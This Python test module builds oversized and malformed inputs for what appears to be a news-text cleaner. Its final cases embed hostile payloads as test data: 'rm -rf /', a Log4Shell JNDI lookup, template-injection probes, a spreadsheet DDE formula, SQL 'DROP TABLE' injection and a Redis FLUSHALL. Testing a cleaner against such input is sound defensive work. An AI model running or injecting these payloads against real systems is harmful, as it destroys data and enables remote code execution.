"""Plain text whose lines keep every loop of the cleaner busy."""

from collections.abc import Callable

from tests.hostile.case import GOOD, HEADLINE, MB, PROSE, Case, filled, numbered, text

_MOST_LINES = 9_900  # a little below what is refused

_LINES = (
    ("empty lines", "\n"),
    ("one-letter lines", "a\n"),
    ("one-letter paragraphs", "a\n\n"),
    ("headings", "\nAbout the river\n"),
    ("bullets", "• a point\n"),
    ("bullets of bullets", "•••••\n"),
    ("dashes", "– said the mayor\n"),
    ("menu entries", "Home\n"),
    ("labels", "Share on Facebook\n"),
    ("comment headings", "12 Comments\n"),
    ("bylines", "By Jane Doe and John Roe, Reuters\n"),
    ("names", "Jane Doe\n"),
    ("dates", "Published: 17 May 2024, 10:00 GMT | Updated 18 May 2024 11:00\n"),
    ("names beside dates", "Jane Doe | 17 May 2024\n"),
    ("photo credits", "A bridge in the town. Photo: Reuters\n"),
    ("related headings", "Related:\n"),
    ("copyright lines", "© 2024 The Agency. All rights reserved.\n"),
    ("newsletter pleas", "Sign up for our newsletter and get it to your inbox\n"),
    ("wrapped lines", "The river rose by four metres in the night and the mayor said that he had \n"),
    ("sentences", "The river rose by four metres in the night, he said.\n"),
    ("quotations", "“We have never been closer,” the mayor said.\n"),
    ("addresses", "https://example.org/a/b/c?d=e\n"),
    ("table rows", "| a | b | c | d |\n"),
    ("indented lines", "          a line that is indented\n"),
    ("numbers", "1234567890\n"),
    ("kickers", "World\n"),
    ("capitals", "THE RIVER ROSE IN THE NIGHT\n"),
    ("questions", "Will the river rise again?\n"),
    ("almost labels", "most read stories on the river that rose in the night and fell again\n"),
    ("author lines", "By\nJane Doe\n"),
    ("changing menus", "Home\nSport\nThe river rose.\n"),
)


def _many(line: str) -> Callable[[], bytes]:
    return lambda: f"{HEADLINE}\n\n".encode() + line.encode() * (_MOST_LINES // line.count("\n")) + PROSE.encode()


def _before(line: str) -> Callable[[], bytes]:
    return lambda: line.encode() * (_MOST_LINES // line.count("\n")) + f"\n{GOOD}".encode()


_PEOPLE = "Riversto", "Mayorate", "Gaugeson", "Harboure", "Islander", "Ferrymen", "Bridgers", "Stewarto", "Fishmark"
_NAMES = ", ".join(f"Jane {name}" for name in _PEOPLE) + "\n\n"


def _long_text() -> str:
    words = " ".join(f"x{name.lower()}x" for name in _PEOPLE)
    return f"{HEADLINE}\n\n" + (f"{words} " * 27 + PROSE.split("\n\n")[0] + "\n\n") * 330


CASES: list[Case] = [
    *(text(f"as many as may be: {name}", _many(line)) for name, line in _LINES),
    *(text(f"above the article: {name}", _before(line)) for name, line in _LINES),
    text("ten megabytes of empty lines", lambda: GOOD.encode() + filled("\n", 10 * MB), "too_long too_many_lines"),
    text("five million lines", lambda: filled("a\n", 10 * MB), "too_long too_many_lines"),
    text("different lines", lambda: HEADLINE + "\n\n" + numbered("The river rose {} metres.\n", _MOST_LINES)),
    text("different words", lambda: HEADLINE + "\n\n" + numbered("word{} ", 110_000)),
    text("one line of all words", lambda: f"{HEADLINE}\n\n" + PROSE.replace("\n", " ") * 1_500),
    text("many names above a long text that has them within words", lambda: _NAMES * 400 + _long_text()),
    text("the headline on every line", lambda: f"{HEADLINE}\n" * 9_000),
    text("the headline alone", HEADLINE, "no_body"),
    text("the headline and blanks", f"{HEADLINE}\n\n{' ' * 1000}", "no_body"),
    text("a headline of 250 letters", f"{'River ' * 25}\n\n{PROSE}"),
    text("a headline of a megabyte", lambda: "River" * 190_000 + "\n\nIt rose."),
    text("no headline", PROSE.split("\n\n")[0] * 3, "no_headline"),
    text("punctuation alone", "...!!!???\n" * 500, "no_headline"),
    text("one character", "a", "no_headline no_body"),
    text("a lone quotation mark", "“\n\n”\n\n„", "no_headline"),
    text(
        "a comments heading in the middle",
        f"{GOOD}\n\n12 Comments\n\n" + "I think so too, said a reader.\n" * 9_000,
        "record",
    ),
    text("the same paragraph again and again", lambda: f"{HEADLINE}\n\n" + (PROSE.split("\n\n")[0] + "\n\n") * 4_000),
    text("paragraphs of 1,500 characters", lambda: f"{HEADLINE}\n\n" + ("we use cookies " * 100 + "\n\n") * 600),
    text("lines of 200 characters", lambda: f"{HEADLINE}\n\n" + ("1 May 2024 " * 18 + "\n") * 4_900),
    text("lines of 140 characters", lambda: f"{HEADLINE}\n\n" + ("share tweet " * 11 + "\n") * 7_000),
    text("an indentation of a million", f"{HEADLINE}\n\n{' ' * 900_000}The river rose.", "record"),
    text("white space between all words", GOOD.replace(" ", " " * 4_000)),
    text("tabs", GOOD.replace(" ", "\t"), "record"),
    text("a base64 blob", f"{GOOD}\n\n" + ("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0" * 2 + "\n") * 9_000),
    text("a base64 blob on one line", lambda: f"{GOOD}\n\ndata:image/png;base64," + "iVBORw0KGgo" * 80_000),
    text("a hex dump", lambda: f"{GOOD}\n\n" + "00000000  7f 45 4c 46 02 01 01 00  |.ELF....|\n" * 9_000),
    text("an SQL dump", lambda: f"{GOOD}\n\n" + "INSERT INTO `a` VALUES (1,'x',NULL);\n" * 9_000),
    text("a minified script", lambda: "function a(b){return b<c&&d>e?f:g};" * 28_000),
    text("a CSV table", lambda: "date,headline,body\n" + '"2024-01-01","a","b"\n' * 9_000),
    text(
        "Markdown",
        f"# {HEADLINE}\n\n" + "## A heading\n\n* a point\n> a quote\n\n[a link](https://example.org)\n\n" * 1_000,
    ),
    text("a shell script", f"#!/bin/sh\nrm -rf /\n{GOOD}"),
    text(
        "format strings and templates",
        f"{GOOD}\n\n{{{{7*7}}}} ${{jndi:ldap://example.org/a}} %s%n%x {{0.__class__}}",
        "record",
    ),
    text("spreadsheet formulas", f"=cmd|' /C calc'!A0\n\n{GOOD}"),
    text("SQL in the headline", f"Robert'); DROP TABLE articles;-- and the river\n\n{PROSE}", "record"),
    text("Lua in the headline", f"return redis.call('FLUSHALL') says the mayor\n\n{PROSE}", "record"),
]
